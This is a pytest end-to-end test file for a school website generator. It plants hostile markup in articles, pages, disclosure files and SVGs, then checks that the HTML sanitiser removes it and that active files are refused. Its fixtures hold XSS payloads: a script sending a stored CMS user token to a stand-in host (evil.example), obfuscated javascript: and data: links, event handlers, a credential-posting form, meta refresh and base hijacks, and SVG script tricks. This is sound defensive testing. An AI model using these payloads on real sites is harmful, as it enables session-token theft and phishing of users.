"""End to end: a copy of the demo school with hostile content in every place
a teacher or an import can put it, built with the publish settings. No page
of the output carries script the theme did not put there, an event handler,
a ``javascript:`` URL or a meta refresh from content; SVG with script is
refused. Pages are parsed with html.parser, never searched with regexes."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from pelican.log import LimitFilter

# tests/helpers.py, and htmltools.py next to this file (also if this folder becomes a package)

from helpers import DEMO_CONTENT, ROOT, TEST_SITE, build_site, read, run_build_cli
from htmltools import elements
from truongweb.plugins.sanitize_html.active_files import svg_problems
from truongweb.build import BuildFailed, build

SITEURL = "https://thcs-thanhbinh.example.edu.vn"
THEME_SCRIPTS = {"preferences.js", "site.js", "search.js", "van-ban-loc.js"}

ARTICLE = """---
title: {title}
date: 2025-10-0{n} 08:00
category: Thông báo
author: Nguyễn Văn A
summary: 'Tóm tắt <a href="javascript:steal()">có mã</a>'
---

{body}
"""

BODIES = {
    "script": '<script>fetch("https://evil.example/?t=" + localStorage.getItem("sveltia-cms.user"))'
              "</script>\n\n<script src=\"https://evil.example/x.js\"></script>\n\nChữ còn lại.",
    "handlers": '<p onclick="steal()">Bấm</p>\n\n<img src="{static}/images/logo.svg" alt="Logo" '
                'onerror="steal()" onload="steal()">\n\n## Mục {: onmouseover="steal()" }',
    "links": '[Xem](javascript:steal())\n\n<a href=" jAvA&#x09;sCrIpT:steal()">Xem 2</a>\n\n'
             '<a href="data:text/html,<script>steal()</script>">Xem 3</a>',
    "forms": '<form action="https://evil.example/login" method="post"><input name="mat-khau">'
             '<button formaction="https://evil.example/">Gửi</button></form>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n'
               '<base href="https://evil.example/">\n\nChữ.',
    "embeds": '<iframe src="https://www.youtube.com/embed/abc"></iframe>\n\n'
              '<object data="https://evil.example/x.swf"></object><embed src="x.swf">\n\n'
              '<svg><script>steal()</script></svg>',
    "styles": '<div style="background:url(https://evil.example/t.gif)">Nền</div>\n\n'
              '<style>body{background:url(https://evil.example/t.gif)}</style>\n\n'
              '<link rel="stylesheet" href="https://evil.example/a.css">',
}

PAGE = """---
title: Trang có mã độc
summary: Trang thử.
---

<script>steal()</script><p onmouseover="steal()">Nội dung trang.</p>
"""

DISCLOSURE = """group: tai-chinh
title: Công khai có mã độc
published: 2025-10-10
updated: 2025-10-10
body: |
  Nội dung công khai.

  <script>steal()</script>
  <img src="x" alt="" onerror="steal()">
  <a href="javascript:steal()">Tải về</a>
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile-site")
    content = tmp / "content"
    shutil.copytree(DEMO_CONTENT, content)
    folder = content / "articles" / "2025"
    folder.mkdir(parents=True, exist_ok=True)
    for n, (name, body) in enumerate(BODIES.items(), start=1):
        (folder / f"ma-doc-{name}.md").write_text(
            ARTICLE.format(title=f"Bài có mã độc {name}", n=min(n, 9), body=body), encoding="utf-8")
    (content / "pages" / "ma-doc.md").write_text(PAGE, encoding="utf-8")
    (content / "cong-khai" / "ma-doc.yml").write_text(DISCLOSURE, encoding="utf-8")
    LimitFilter._raised_messages.clear()
    report = build(tmp / "output", content=content, publish=True, cache=tmp / "cache",
                   overrides={"SITEURL": SITEURL}, echo=False)
    return tmp / "output", report


def test_every_hostile_file_is_named_with_what_was_removed(hostile):
    _, report = hostile
    found = [w for w in report.warnings if "mã HTML không được phép" in w]
    warned = {w.split(":", 1)[0]: w for w in found}
    assert len(warned) == len(found), found  # once per file, also for the files that
    # parallel_read's forked reader converted (it leaves a file that warned to the build)
    names = {Path(k).name for k in warned}
    assert {f"ma-doc-{name}.md" for name in BODIES} | {"ma-doc.md", "ma-doc.yml"} <= names
    text = "\n".join(warned.values())
    for part in ("thẻ <script>", "thuộc tính onclick", "thuộc tính onerror", "liên kết javascript:",
                 "liên kết data:", "thẻ <form>", "thẻ <meta>", "thẻ <base>", "thẻ <iframe>",
                 "thẻ <object>", "thẻ <svg>", "thuộc tính style", "thẻ <style>", "thẻ <link>",
                 "thuộc tính onmouseover"):
        assert part in text, part
    disclosure = next(w for k, w in warned.items() if k.endswith("ma-doc.yml"))
    assert "trường body" in disclosure and "thẻ <script>" in disclosure


def _own(url: str) -> bool:
    parts = urlsplit(url)
    return not parts.scheme or url.startswith(SITEURL + "/")


def test_no_page_carries_script_handlers_or_refresh_from_content(hostile):
    output, _ = hostile
    pages = sorted(p for p in output.rglob("*.html")
                   if p.relative_to(output).parts[0] != "admin")
    assert len(pages) > 100
    for path in pages:
        where = path.relative_to(output).as_posix()
        parsed = elements(read(path))
        for attrs, text in parsed.scripts:
            # only the theme's own files, no inline script at all
            assert attrs.get("src") and not text.strip(), (where, attrs, text[:80])
            assert _own(attrs["src"]) and attrs["src"].rsplit("/", 1)[-1] in THEME_SCRIPTS, where
        for tag, attrs in parsed.elements:
            for name, value in attrs.items():
                assert not name.startswith("on"), (where, tag, name)
                compact = "".join(value.split()).lower()
                assert not compact.startswith(("javascript:", "vbscript:", "data:text")), \
                    (where, tag, name, value)
            assert tag not in ("iframe", "object", "embed", "base", "frame"), (where, tag)
            if tag == "meta":
                assert attrs.get("http-equiv", "").lower() != "refresh", where
            if tag == "form":
                assert _own(attrs.get("action", "")), (where, attrs)
            if tag == "link" and "stylesheet" in attrs.get("rel", ""):
                assert _own(attrs.get("href", "")), (where, attrs)
            assert "style" not in attrs, (where, tag)
        csp = [a for t, a in parsed.elements
               if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
        assert len(csp) == 1 and "script-src 'self'" in csp[0]["content"], where
    everything = "".join(read(p) for p in pages)
    assert "evil.example" not in everything and "steal()" not in everything


def test_the_text_around_the_hostile_markup_is_kept(hostile):
    output, _ = hostile
    article = next(output.rglob("bai-co-ma-doc-script/index.html"))
    assert "Chữ còn lại." in read(article)
    assert "Nội dung trang." in read(next(output.rglob("trang-co-ma-doc/index.html")))
    assert "Nội dung công khai." in read(output / "cong-khai" / "ma-doc" / "index.html")


# --- SVG and other files that would run as the site -------------------------

LOGO = (DEMO_CONTENT / "images" / "logo.svg").read_bytes()
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


@pytest.mark.parametrize("inside, named", [
    ("<script>alert(document.domain)</script>", "thẻ <script>"),
    ('<rect width="10" height="10" onclick="steal()"/>', "thuộc tính onclick"),
    ('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>',
     "thẻ <foreignObject>"),
    ('<image xlink:href="https://evil.example/t.png"/>', "liên kết ra ngoài ảnh (href)"),
    ('<a href="javascript:steal()"><text>x</text></a>', "liên kết javascript:"),
    ('<set attributeName="href" to="javascript:steal()"/>', "hoạt ảnh đổi liên kết"),
])
def test_svg_with_script_is_named(inside, named):
    problems = svg_problems(SVG.format(inside).encode())
    assert any(named in p for p in problems), problems


def test_plain_svg_passes():
    assert svg_problems(LOGO) == []
    drawing = ('<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
               '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
               + SVG.format('<defs><linearGradient id="g"/></defs><rect fill="url(#g)" '
                            'width="5" height="5"/><use xlink:href="#g"/>'
                            '<image href="data:image/png;base64,iVBORw0KGgo="/>'))
    assert svg_problems(drawing.encode()) == []


@pytest.mark.parametrize("name, data, words", [
    ("images/xau.svg", SVG.format("<script>steal()</script>").encode(), "thẻ <script>"),
    ("images/trang.html", b"<script>steal()</script>", "trang HTML"),
    ("images/ma.js", b"steal()", "mã JavaScript"),
])
def test_build_refuses_active_files(tmp_path, name, data, words):
    content = tmp_path / "content"
    shutil.copytree(TEST_SITE, content)
    (content / name).write_bytes(data)
    with pytest.raises(BuildFailed) as error:
        build_site(tmp_path, content=content)
    message = str(error.value)
    assert name in message and words in message, message
    assert not (tmp_path / "output" / name).exists()


def test_logo_still_published_and_cli_error_is_clean(tmp_path):
    output = build_site(tmp_path / "ok", content=TEST_SITE)
    assert (output / "images" / "logo.svg").read_bytes() == (TEST_SITE / "images" / "logo.svg").read_bytes()
    content = tmp_path / "content"
    shutil.copytree(TEST_SITE, content)
    (content / "images" / "xau.svg").write_text(SVG.format('<g onload="steal()"/>'), encoding="utf-8")
    result = run_build_cli("--output", tmp_path / "out", "--cache", tmp_path / "cache",
                           "--content", content, cwd=ROOT)
    assert result.returncode == 1
    assert "Lỗi:" in result.stderr and "xau.svg" in result.stderr and "onload" in result.stderr
    assert "Traceback" not in result.stderr
